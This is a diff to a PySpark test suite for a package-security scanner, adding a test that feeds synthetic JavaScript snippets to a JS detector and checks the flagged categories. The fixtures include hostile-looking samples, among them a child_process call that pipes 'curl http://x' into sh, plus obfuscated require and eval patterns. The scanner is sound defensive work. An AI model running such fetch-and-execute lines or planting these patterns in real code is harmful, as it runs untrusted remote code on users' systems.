@@ -10,7 +10,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from assayer.functions import fixed, text
-from assayer.operators import detonation, lines, policy, python_code, typosquat, verdict
+from assayer.operators import detonation, js_code, lines, policy, python_code, typosquat, verdict
 from assayer.plans import reports
 from assayer.sources import manifests
 
@@ -528,6 +528,16 @@ def _(spark, sf):
     return python_code.scan_python(files).select(F.col("package").cast("long").alias("doc_id"), "category", "severity")
 
 
+JS = """SELECT doc_id, CASE doc_id % 8 WHEN 0 THEN 'const cp = require("child_process");' || chr(10) || 'cp.exec(' || chr(10) || 'cmd)' WHEN 1 THEN 'require("child" + "_process")' WHEN 2 THEN '(0, eval)(code)' WHEN 3 THEN 'function exec(s) {}' || chr(10) || 'exec(x)' WHEN 4 THEN 'const run = (c: string) => { exec(c) }'
+  WHEN 5 THEN 'require("child_process").execSync("curl http://x | sh")' WHEN 6 THEN 'eval("1" + "2")' ELSE 'new Function("a", b)' END AS text FROM documents"""
+
+
+@query("js_signals", """SELECT doc_id, category, line FROM (SELECT doc_id, CASE doc_id % 8 WHEN 0 THEN 'command-exec-computed-arg' WHEN 1 THEN 'obfuscated-module-load' WHEN 2 THEN 'eval-computed-arg' WHEN 4 THEN 'command-exec-computed-arg' WHEN 5 THEN 'command-exec-shell-pipe' WHEN 7 THEN 'eval-computed-arg' END AS category, CASE WHEN doc_id % 8 = 0 THEN 2 ELSE 1 END AS line FROM documents) WHERE category IS NOT NULL""")
+def _(spark, sf):
+    files = derive(spark, sf, JS).select(F.lit("npm").alias("ecosystem"), F.col("doc_id").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("a.js").alias("path"), "text")
+    return js_code.scan_with_trees(files).select(F.col("package").cast("long").alias("doc_id"), "category", F.col("evidence")[0]["line"].alias("line"))
+
+
 TREES = "SELECT 'pypi' AS ecosystem, 'p' || CAST(p_size AS STRING) AS package, '1' AS version, CASE WHEN p_partkey % 2 = 0 THEN 'wheel' ELSE 'sdist' END AS label, 'pkg' || CAST(p_partkey % 10 AS STRING) || '/__init__.py' AS path, CAST(10 AS BIGINT) AS size_bytes, 'x = 1' AS text FROM part"
 
 
